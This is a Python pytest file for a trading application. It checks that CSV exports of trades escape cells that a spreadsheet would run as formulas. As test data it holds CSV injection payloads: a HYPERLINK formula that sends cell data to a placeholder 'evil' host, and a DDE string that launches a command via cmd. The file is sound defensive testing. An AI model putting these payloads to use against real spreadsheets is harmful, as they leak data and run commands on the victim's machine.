"""No table that the program writes for people has a cell that a spreadsheet runs; numbers stay as they are."""

from __future__ import annotations

import csv
import io

import msgspec
import pytest

import manage
from app.results import write_trades
from dashboard.figures import as_csv
from domain.sheet import FORMULA, cell
from domain.trade import as_row
from tests.desk import trade


def from_command(trades, _folder):
    return manage._exported([as_row(one) for one in trades], ".csv").decode()


def from_page(trades, _folder):
    return as_csv(trades)


def from_backtest(trades, folder):
    write_trades(folder / "trades.csv", trades)
    return (folder / "trades.csv").read_text()


@pytest.mark.parametrize("written", [from_command, from_page, from_backtest])
def test_texts_of_exported_trades_are_no_formulas(tmp_path, written):
    evil = msgspec.structs.replace(
        trade(1, symbol='=HYPERLINK("http://evil/?"&A1)', reason="+cmd|' /C calc'!A0", pnl="-5"),
        strategy_name="@SUM(1)",
    )
    (row,) = csv.DictReader(io.StringIO(written([evil], tmp_path)))
    texts = [row[name] for name in ("symbol", "exit_reason", "strategy_name")]
    assert all(text.startswith("'") for text in texts)
    assert row["pnl_usd"] == "-5"


@pytest.mark.parametrize("begin", FORMULA)
def test_text_that_begins_a_formula_gets_an_apostrophe(begin):
    assert cell(f"{begin}1+1") == f"'{begin}1+1"


@pytest.mark.parametrize("value", ["BTC/USDT:USDT", "", "a=b", -5, None, True])
def test_everything_else_stays_as_it_is(value):
    assert cell(value) is value
